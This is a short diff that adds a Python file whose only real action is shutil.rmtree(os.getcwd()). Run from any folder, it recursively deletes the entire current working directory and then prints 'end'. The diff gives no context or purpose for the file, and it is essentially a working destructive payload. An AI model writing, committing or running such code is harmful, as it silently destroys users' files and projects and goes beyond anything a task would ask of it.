@@ -1,0 +1,5 @@
+import os
+import shutil
+
+shutil.rmtree(os.getcwd())
+print("end")
